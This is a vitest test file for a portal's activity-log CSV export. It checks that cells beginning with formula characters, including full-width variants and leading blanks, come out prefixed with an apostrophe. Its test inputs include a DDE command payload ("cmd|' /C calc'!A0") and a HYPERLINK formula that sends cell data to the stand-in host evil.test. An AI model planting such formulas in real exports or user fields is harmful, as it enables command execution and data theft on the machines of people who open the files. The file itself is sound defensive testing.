import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CSV_FORMULA_STARTS, csvCell } from '@portal/shared'
import { parseCsv } from '../../modules/activity-logs/logs.test-support'
import { buildTestApp, TEST_PASSWORD, type TestContext } from '../helpers'

/**
 * OWASP CSV Injection, docs/product-decisions.md D22: a cell starting with = + - @ tab CR LF NUL or the
 * full-width ＝ ＋ － ＠, also after leading blanks, is prefixed with '. packages/shared/src/rules/csv.test.ts tables the rule; logs.export.test.ts checks seeded
 * rows. Here the values arrive the way an attacker would send them (a UI event's details, a
 * user's name) and leave through the real export.
 */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'] as const
/** Blanks a spreadsheet skips before it reads a formula. */
const BLANKS = [' ', '   ', '\u00A0', '\u3000']
const name = (c: string) => JSON.stringify(c)

let t: TestContext
let admin: { 'x-auth-token': string }
beforeAll(async () => {
  t = await buildTestApp()
  admin = (await t.loginAs('admin')).headers
})
afterAll(async () => t.close())

describe('the shared rule', () => {
  it('guards exactly the characters docs/product-decisions.md D22 lists', () => {
    expect([...CSV_FORMULA_STARTS].sort()).toEqual([...STARTS].sort())
  })

  it.each(STARTS.map((c) => [name(c), c] as const))('neutralises a cell starting with %s', (_label, c) => {
    for (const rest of ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.test","x")', '1+1', '']) {
      const cell = csvCell(`${c}${rest}`)
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell
      expect(unquoted.startsWith("'"), JSON.stringify(cell)).toBe(true)
      expect(unquoted.slice(1)).toBe(`${c}${rest}`)
    }
  })
})

describe('through GET /api/logs/export.csv', () => {
  it('neutralises UI event details and user names that start with a formula character', async () => {
    const sales = await t.loginAs('sales')
    const sent: string[] = []
    const starts = [...STARTS, ...BLANKS.map((b) => `${b}=`), ' ＠']
    for (const c of starts) {
      const details = `${c}HYPERLINK("http://evil.test/?"&A1,"click")`
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/logs/action',
        headers: sales.headers,
        payload: { action: 'HELP_BUTTON_CLICKED', details },
      })
      // A value the database cannot hold (NUL) may be refused, but never with a 5xx.
      expect(res.statusCode, `${name(c)}: ${res.body}`).toBeLessThan(500)
      if (res.statusCode < 300) sent.push(details)
    }
    for (const c of ['=', '+', '-', '@']) {
      const made = await t.app.inject({
        method: 'POST',
        url: '/api/users',
        headers: admin,
        payload: {
          email: `csv${c.charCodeAt(0)}@example.test`,
          name: `${c}cmd|' /C calc'!A0`,
          password: TEST_PASSWORD,
          role: 'internal',
        },
      })
      expect(made.statusCode, made.body).toBe(201)
      await t.login(`csv${c.charCodeAt(0)}@example.test`)
    }

    const res = await t.app.inject({ method: 'GET', url: '/api/logs/export.csv', headers: admin })
    expect(res.statusCode).toBe(200)
    const rows = parseCsv(res.body).slice(1)
    const cells = rows.flat()
    for (const cell of cells) {
      const firstNonBlank = cell.replace(/^[\s\u00A0\u3000]+/, '').charAt(0)
      expect(STARTS.includes(cell.charAt(0) as (typeof STARTS)[number]), JSON.stringify(cell)).toBe(false)
      expect(STARTS.includes(firstNonBlank as (typeof STARTS)[number]), JSON.stringify(cell)).toBe(false)
    }
    // Every value sent is in the file, behind its guard.
    for (const details of sent) expect(cells).toContain(`'${details}`)
    expect(sent.length).toBeGreaterThanOrEqual(starts.length - 1)
    for (const c of ['=', '+', '-', '@']) expect(cells).toContain(`'${c}cmd|' /C calc'!A0`)
  })
})
